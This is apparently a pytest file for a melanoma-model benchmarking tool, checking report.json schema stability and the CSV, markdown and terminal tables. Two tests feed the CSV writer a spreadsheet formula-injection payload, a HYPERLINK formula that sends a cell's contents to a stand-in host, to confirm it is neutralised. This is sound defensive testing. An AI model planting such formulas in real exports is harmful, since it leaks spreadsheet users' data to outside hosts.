"""report.json schema stability, the CSV/markdown/terminal renderings, and strict JSON."""

import csv
import dataclasses
import json
import re
from pathlib import Path

from melanoma.benchmarks.report import (
    CSV_COLUMNS,
    SCHEMA_VERSION,
    TABLE_HEADER,
    csv_record,
    make_row,
    preemption_notes,
    report_json,
    table_cells,
    text_table,
    write_csv,
)
from melanoma.benchmarks.report_markdown import (
    accuracy_table,
    markdown_report,
)
from melanoma.benchmarks.timing import Latency

SCHEMA_DOC = Path(__file__).resolve().parents[2] / "benchmarks" / "REPORT_SCHEMA.md"

# The contract: removing or renaming any of these is a schema_version bump.
TOP_KEYS = {"schema_version", "created_utc", "machine", "versions", "toolkit_source", "data",
            "reference", "config", "artifacts", "targets", "gate", "roc"}  # fmt: skip
ROW_KEYS = {
    "name", "target", "precision", "threads", "runtime_threads", "cpu_per_wall", "status",
    "status_symbol",
    "reasons", "runtime",
    "file", "sha256", "quantization", "export_check", "threshold_name", "threshold", "n_images",
    "auc", "accuracy", "sensitivity", "specificity", "ppv", "f1", "balanced_accuracy", "ci",
    "brier", "ece",
    "agreement", "n_disagree", "delta_auc", "delta_accuracy", "max_abs_dprob", "mean_abs_dprob",
    "latency_ms",
    "load_ms", "warmup", "runs", "rounds", "p50_by_round_ms", "throughput_batch", "throughput_ips",
    "size_bytes", "macs",
    "gmacs_per_s",
}  # fmt: skip
ISSUE_ROW_KEYS = {"name", "target", "precision", "threads", "status", "auc", "accuracy",
                  "sensitivity", "specificity", "agreement", "delta_auc", "max_abs_dprob",
                  "latency_ms", "load_ms", "size_bytes", "macs"}  # fmt: skip
MACHINE_KEYS = {"cpu", "arch", "logical_cores", "os", "python", "load_average_1m",
                "torch_matmul_gmacs_per_s"}  # fmt: skip


def test_row_keys_are_stable(rows):
    for row in rows:
        assert set(row) == ROW_KEYS
        assert set(row["latency_ms"]) == {"p50", "p90", "p99", "mean", "min"}
        assert set(row["ci"]) == {"auc", "accuracy", "sensitivity", "specificity", "ppv", "f1",
                                  "balanced_accuracy"}  # fmt: skip
    assert ISSUE_ROW_KEYS <= ROW_KEYS


def test_not_runnable_row_has_every_key_as_null(rows):
    skipped = next(r for r in rows if r["status"] == "not_runnable")
    assert skipped["status_symbol"] == "⏭" and skipped["reasons"]
    assert skipped["auc"] is None and skipped["latency_ms"]["p50"] is None
    assert skipped["size_bytes"] == 300_000 and skipped["macs"] > 0


def test_every_key_is_documented():
    documented = set(re.findall(r"`([a-z_0-9]+)`", SCHEMA_DOC.read_text()))
    missing = (TOP_KEYS | ROW_KEYS | MACHINE_KEYS) - documented
    assert not missing, f"undocumented in REPORT_SCHEMA.md: {sorted(missing)}"
    assert f"schema_version {SCHEMA_VERSION}" in SCHEMA_DOC.read_text()
    # The key table states the value too, and a bump must update it as well as the title.
    assert f"| `schema_version` | int | `{SCHEMA_VERSION}` |" in SCHEMA_DOC.read_text()


def test_top_level_keys(report):
    assert set(report) == TOP_KEYS and report["schema_version"] == SCHEMA_VERSION
    assert set(report["machine"]) == MACHINE_KEYS
    assert report["gate"] == {"limits": {"max_auc_drop": None, "min_agreement": None,
                                         "max_latency_ms": None, "max_accuracy_drop": None,
                                         "require_int8": False, "max_abs_dprob": None},
                              "violations": [], "passed": True}  # fmt: skip
    eager = [r for r in report["artifacts"] if r["target"] == "pytorch"]
    assert [(r["name"], r["precision"], r["threads"]) for r in eager] == [
        ("eager-pytorch", "fp32", 1), ("eager-pytorch", "fp32", 2)]  # fmt: skip
    assert len(report["artifacts"]) == 4 * 2  # one row per artifact and thread count


def test_json_is_strict_and_round_trips(report):
    report["artifacts"][0]["auc"] = float("nan")
    text = report_json(report)
    assert "NaN" not in text
    parsed = json.loads(text)
    assert parsed["artifacts"][0]["auc"] is None
    assert parsed["artifacts"][1] == report["artifacts"][1]


def test_csv_one_line_per_row(report, tmp_path):
    write_csv(report["artifacts"], tmp_path / "r.csv")
    with (tmp_path / "r.csv").open() as handle:
        records = list(csv.DictReader(handle))
    assert list(records[0]) == CSV_COLUMNS and len(records) == len(report["artifacts"])
    int8 = next(r for r in records if r["precision"] == "int8")
    assert float(int8["p50_ms"]) == 0.8 and float(int8["agreement"]) == 0.995
    assert int8["sha256"] == "cd" * 32  # which bytes each row measured
    skipped = next(r for r in records if r["target"] == "coreml")
    assert skipped["reasons"] == "Core ML runtime needs macOS" and skipped["p50_ms"] == ""


def test_a_csv_name_a_spreadsheet_takes_for_a_formula_is_written_as_the_same_path(report, tmp_path):
    """report.csv carried an artifact named '=HYPERLINK(...).onnx' as that formula, as
    predict's CSV did a photo's: written ./=HYPERLINK(...).onnx, the same file relative to
    --artifacts, and text to a spreadsheet. report.json keeps the name as it is."""
    name = '=HYPERLINK("http://x.example/?"&A2,"see").onnx'
    rows = [{**row, "name": name} if row["target"] == "onnx" else row
            for row in report["artifacts"]]  # fmt: skip
    write_csv(rows, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(newline="") as handle:
        names = [record["name"] for record in csv.DictReader(handle)]
    assert names == [f"./{r['name']}" if r["name"] == name else r["name"] for r in rows]
    assert Path(names[[r["name"] for r in rows].index(name)]) == Path(name)  # the same file


def test_csv_text_a_foreign_manifest_spells_is_never_a_formula(report, tmp_path):
    """A manifest from elsewhere names its precision and thresholds as it likes (export
    --threshold takes the checkpoint's name): report.csv carried '=HYPERLINK(...)' in the
    precision and threshold_name cells, which a spreadsheet ran. Each text cell now starts
    with OWASP's ' there; the numbers, and report.json, are as they were."""
    formula = '=HYPERLINK("http://x.example/?"&A2,"see")'
    starts = {"precision": "+" + formula, "threshold_name": formula, "runtime": "@" + formula,
              "reasons": ["-" + formula, "ok"], "target": "\t" + formula}  # fmt: skip
    rows = [{**row, **starts} for row in report["artifacts"]]
    write_csv(rows, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(newline="") as handle:
        records = list(csv.DictReader(handle))
    for record in records:
        assert {key: record[key] for key in starts} == {
            "precision": "'+" + formula, "threshold_name": "'" + formula,
            "runtime": "'@" + formula, "reasons": f"'-{formula}; ok", "target": "'\t" + formula,
        }  # fmt: skip
    int8 = next(r for r in records if r["name"] == "m-executorch-int8.pte")
    assert int8["delta_auc"] == "-0.002" and int8["threshold"] == "0.5"  # numbers stay numbers


def test_terminal_and_markdown_tables(report):
    table = text_table(report["artifacts"]).splitlines()
    assert table[0].split()[0] == "artifact" and len(table) == 2 + 8 + 1  # header, rule, rows, note
    assert "⏭ m-coreml-fp32.mlpackage: Core ML runtime needs macOS" in table[-1]
    onnx = next(line for line in table if line.startswith("m-onnx-fp32.onnx"))
    assert "✅" in onnx and "0.500" in onnx
    text = markdown_report(report)
    assert "| eager-pytorch | pytorch | fp32 | 1 | ✅ |" in text
    assert "test cpu" in text and "## Gate" in text and "passed" in text
    table_lines = [line for line in text.splitlines() if line.startswith("|")]
    columns = {len(re.findall(r"(?<!\\)\|", line)) for line in table_lines}
    assert columns == {len(TABLE_HEADER) + 1, 8, 5}  # all tables well-formed (max\|Δp\| escaped)
    # metrics with their CIs, one line per artifact however many thread counts it was timed at
    assert text.count("| m-executorch-int8.pte | 0.850 [0.100, 0.900] |") == 1
    assert "p99 is about the slowest call" not in text  # the default 200 runs
    assert "![ROC](roc.png)" in text
    assert "png" not in markdown_report(report, plots=False)  # --no-plots: no links to nothing
    assert "- decisions: melanoma when P ≥ 0.5000 (the youden threshold); agree%, ΔAUC and " in text
    assert "checkpoint sha256 abababababab..., licence CC-BY-NC-4.0\n" in text


def test_preempted_one_thread_rows_are_flagged(report):
    rows = report["artifacts"]
    assert preemption_notes(rows) == []  # the fixture's rows were not timed with CPU accounting
    int8 = next(i for i, r in enumerate(rows) if r["precision"] == "int8" and r["threads"] == 1)
    rows[int8]["cpu_per_wall"] = 0.8996  # at 2 places "0.90", beside the rule "< 0.9"
    for row in rows:
        if row["threads"] == 2:
            row["cpu_per_wall"] = 0.5  # two threads: the caller may wait for pool threads
    notes = preemption_notes(rows)
    assert notes == [
        f"{rows[int8]['name']} (1 thread): CPU/wall 0.899 while timed: "
        "preempted by other work, its latencies are inflated"
    ]
    assert f"- {notes[0]}" in markdown_report(report)
    assert text_table(rows).splitlines()[-1] == notes[0]
    rows[int8 + 1]["cpu_per_wall"] = 0.16  # its 2-thread row, preempted as seen on a busy VM
    assert preemption_notes(rows)[1] == (
        f"{rows[int8]['name']} (2 threads): CPU/wall 0.160 while timed: the calling thread "
        "mostly waited (for a core, or for its pool), so its latencies are likely inflated"
    )


def test_each_figure_lands_in_its_own_column_and_unit(make_subject):
    """Every figure distinct (the shared fixture repeats values: mean = p50, one CI for all),
    so a swapped column, a wrong unit or a figure taken from its neighbour shows."""
    ci = {"auc": [0.81, 0.89], "accuracy": [0.76, 0.84], "sensitivity": [0.86, 0.94],
          "specificity": [0.65, 0.75], "precision": [0.7, 0.8], "f1": [0.78, 0.86],
          "balanced_accuracy": [0.72, 0.82]}  # fmt: skip
    artifact = make_subject(agreement=0.995, delta_auc=-0.002, delta_accuracy=-0.005,
                            max_abs_dprob=0.03, name="m-executorch-int8.pte")  # fmt: skip
    artifact.info.update(ci=ci, balanced_accuracy=0.77)
    timed = Latency(
        load_ms=5.5, p50_ms=0.8, p90_ms=1.2, p99_ms=1.6, mean_ms=0.9, min_ms=0.5, runs=200,
        warmup=20, throughput_ips=1500.0, p50_by_round_ms=(0.8, 0.85),
    )  # fmt: skip
    row = make_row(artifact, 2, timed, 38_633_600)
    assert (row["ppv"], row["f1"], row["balanced_accuracy"]) == (0.75, 0.82, 0.77)
    assert row["ci"]["ppv"] == [0.7, 0.8] and row["rounds"] == 2
    assert row["gmacs_per_s"] == 38_633_600 / 0.8e-3 / 1e9  # from p50, not the mean
    assert table_cells(row) == [
        "m-executorch-int8.pte",
        "executorch",
        "int8",
        "2",
        "✅",
        "0.850",
        "0.800",
        "99.5",
        "-0.0020",
        "3.0e-02",
        "0.800",
        "1.200",
        "1.600",
        "5.5",
        "293",
        "48.29",
    ]  # size in KB of 1024 bytes: 300,000 bytes
    flat = csv_record(row)
    assert (flat["auc_ci_low"], flat["auc_ci_high"]) == (0.81, 0.89)
    assert [flat[f"{k}_ms"] for k in ("p50", "p90", "p99", "mean")] == [0.8, 1.2, 1.6, 0.9]
    timing = ("load_ms", "runs", "rounds", "throughput_ips", "gmacs_per_s")
    assert [flat[k] for k in timing] == [5.5, 200, 2, 1500.0, row["gmacs_per_s"]]  # in the CSV
    slower = make_row(artifact, 1, dataclasses.replace(timed, throughput_ips=1000.0), 1)
    unbatched = make_row(artifact, 1, dataclasses.replace(timed, throughput_ips=None), 1)
    assert (row["throughput_batch"], unbatched["throughput_batch"]) == (32, None)  # not timed
    assert accuracy_table([slower, row]).splitlines()[-1] == (
        "| m-executorch-int8.pte | 0.850 [0.810, 0.890] | 0.800 [0.760, 0.840] | "
        "0.900 [0.860, 0.940] | 0.700 [0.650, 0.750] | 3/600 | 1500 |"
    )  # the best thread count's throughput


def test_a_failed_row_shows_its_symbol_and_reasons(make_subject):
    failed = make_subject(status="failed", reasons=["agreement 0.500 < 0.9"], agreement=0.5)
    row = make_row(failed, 1, None, 1)
    assert table_cells(row)[4] == "❎" and row["status_symbol"] == "❎"
    assert text_table([row]).splitlines()[-1] == "❎ m.pte: agreement 0.500 < 0.9"
